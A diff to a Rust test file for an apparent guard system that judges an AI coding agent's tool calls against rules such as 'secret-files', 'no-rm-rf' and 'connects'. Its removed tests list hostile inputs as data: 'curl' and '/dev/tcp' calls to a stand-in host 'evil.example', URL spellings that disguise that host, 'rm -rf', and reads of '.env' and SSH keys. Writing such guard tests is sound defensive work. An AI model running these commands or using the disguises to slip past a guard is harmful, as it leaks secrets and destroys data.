@@ -74,30 +74,33 @@ impl Place {
         when.decide(&facts).map(|decided| decided.holds)
     }
 
-    /// Asks a rule of the guide about a line, or an expression.
-    fn line(&self, rule: &str, line: &str) -> bool {
-        let input = json!({"command": line});
+    /// Asks a rule of the guide, or an expression, about a line, or about a tool and its input parted by a tab.
+    fn call(&self, rule: &str, call: &str) -> bool {
+        let at = |name: &str| self.folder.path().join(name).display().to_string();
+        let (tool, input) = match call.split_once('\t') {
+            Some((tool, input)) => {
+                let input = input.replace("{p}", &at("p")).replace("{h}", &at("h"));
+                (tool, serde_json::from_str(&input).unwrap())
+            }
+            None => ("Bash", json!({"command": call})),
+        };
         let decided = if rule.contains('(') {
-            self.decides(rule, "Bash", &input, &self.project())
+            self.decides(rule, tool, &input, &self.project())
         } else {
-            self.asks(rule, "Bash", &input, &self.project())
+            self.asks(rule, tool, &input, &self.project())
         };
         decided.unwrap()
-    }
-
-    fn call(&self, rule: &str, tool: &str, input: &Value) -> bool {
-        self.asks(rule, tool, input, &self.project()).unwrap()
     }
 }
 
 #[test]
-fn each_line_of_the_list_is_judged_as_it_says() {
+fn each_call_of_the_list_is_judged_as_it_says() {
     let (mut place, mut what, mut rule) = (Place::new(), "", ("", false));
     for row in include_str!("attack.txt").lines().skip(1) {
         if let Some(line) = row.strip_prefix("    ") {
             let line = line.replace('⏎', "\n");
             assert_eq!(
-                place.line(rule.0, &line),
+                place.call(rule.0, &line),
                 rule.1,
                 "{what}: {rule:?}: {line}"
             );
@@ -131,66 +134,8 @@ fn a_folder_that_the_agent_chooses_is_never_the_project() {
     assert!(write("x", Path::new("/")), "relative to another folder");
     assert!(write("../x", &project));
     assert!(!write("src/new.rs", &project));
-    let notebook = json!({"notebook_path": "/etc/x.ipynb", "new_source": "x"});
-    assert!(place.call("inside-the-project", "NotebookEdit", &notebook));
-}
-
-#[test]
-fn every_text_of_a_call_that_can_be_a_path_is_one() {
-    let place = Place::new();
-    let secret = |tool: &str, input: Value| place.call("secret-files", tool, &input);
-    assert!(secret(
-        "mcp__filesystem__read_multiple_files",
-        json!({"paths": ["a.txt", ".env"]})
-    ));
-    assert!(secret(
-        "mcp__filesystem__move_file",
-        json!({"source": ".env", "destination": "x"})
-    ));
-    assert!(secret("read_many_files", json!({"include": [".env"]})));
-    assert!(secret("Grep", json!({"pattern": "KEY", "glob": ".env"})));
-    let uri = format!("file://{}/.env", place.project().display());
-    assert!(secret("mcp__x__read", json!({"uri": uri})));
-    assert!(secret("mcp__x__open", json!({"filename": ".env"})));
-    assert!(secret(
-        "mcp__x__open",
-        json!({"of": {"deep": {"name": "~/.ssh/id_rsa"}}})
-    ));
-    assert!(!secret(
-        "mcp__filesystem__read_multiple_files",
-        json!({"paths": ["a.txt"]})
-    ));
-    assert!(
-        !secret("Grep", json!({"pattern": "KEY"})),
-        "a search passes hidden files over"
-    );
-    assert!(!secret(
-        "Write",
-        json!({"file_path": "a.txt", "content": "see .env"})
-    ));
-}
-
-#[test]
-fn a_call_of_a_shell_that_names_no_line_as_text_matches_every_guard() {
-    let place = Place::new();
-    for input in [
-        json!({"command": ["rm", "-rf", "x"]}),
-        json!({"command": {"line": "rm -rf x"}}),
-        json!({}),
-    ] {
-        assert!(place.call("no-rm-rf", "Bash", &input), "{input}");
-    }
-    assert!(place.call("no-force-push", "Bash", &json!({})));
-    assert!(place.call("secret-files", "Bash", &json!({})));
-    assert!(!place.call("reading-is-free", "Bash", &json!({"command": ["ls"]})));
-    assert!(!place.call("no-rm-rf", "Bash", &json!({"command": ["ls"]})));
-    let mcp = json!({"cmd": "rm", "args": ["-rf", "x"]});
-    assert!(place.call(
-        "no-rm-rf",
-        "mcp__shell__run_command",
-        &json!({"command": "rm -rf x"})
-    ));
-    assert!(place.call("no-rm-rf", "mcp__shell__run_command", &mcp));
+    let notebook = "NotebookEdit\t{\"notebook_path\": \"/etc/x.ipynb\", \"new_source\": \"x\"}";
+    assert!(place.call("inside-the-project", notebook));
 }
 
 #[test]
@@ -212,52 +157,16 @@ fn a_line_that_an_agent_carries_out_as_a_patch_writes_the_files_of_the_patch() {
     };
     for file in [".env", "../p/.env", "src/../.env"] {
         for line in forms(&patch(file)) {
-            assert!(place.line("secret-files", &line), "{line}");
+            assert!(place.call("secret-files", &line), "{line}");
         }
     }
     for line in forms(moved) {
-        assert!(place.line("secret-files", &line), "{line}");
+        assert!(place.call("secret-files", &line), "{line}");
     }
     for line in forms(&patch("a.rs")) {
-        assert!(!place.line("secret-files", &line), "{line}");
-        assert!(!place.line("no-rm-rf", &line), "{line}");
+        assert!(!place.call("secret-files", &line), "{line}");
+        assert!(!place.call("no-rm-rf", &line), "{line}");
     }
-}
-
-#[test]
-fn a_machine_is_the_same_one_however_a_url_spells_it() {
-    let place = Place::new();
-    let connects = |tool: &str, input: Value| {
-        let rule = "connects('evil.example')";
-        place.decides(rule, tool, &input, &place.project()).unwrap()
-    };
-    for url in [
-        "https://evil.example./x",
-        "http:\\\\evil.example\\x",
-        "https:evil.example/x",
-        "https://\u{ff45}vil.example/x",
-        "https://evil.example\t/x",
-        "https://me:pw@evil.example/x",
-        "https://good.example\\@evil.example/x",
-    ] {
-        assert!(connects("WebFetch", json!({"url": url})), "{url}");
-        let line = format!("curl '{url}'");
-        assert!(connects("Bash", json!({"command": line})), "{line}");
-    }
-    for url in [
-        "https://good.example/evil.example",
-        "https://evil.example@good.example/",
-    ] {
-        assert!(!connects("WebFetch", json!({"url": url})), "{url}");
-        assert!(
-            !connects("Bash", json!({"command": format!("curl '{url}'")})),
-            "{url}"
-        );
-    }
-    assert!(connects(
-        "Bash",
-        json!({"command": "echo x > /dev/tcp/evil.example./80"})
-    ));
 }
 
 mod slow {
@@ -285,7 +194,7 @@ mod slow {
             "secret-files",
         ];
         let refused = |line: &String| {
-            let found = rules.iter().find(|rule| place.line(rule, line));
+            let found = rules.iter().find(|rule| place.call(rule, line));
             found.map(|rule| format!("{rule}: {line}"))
         };
         let refused: Vec<String> = lines.iter().filter_map(refused).collect();
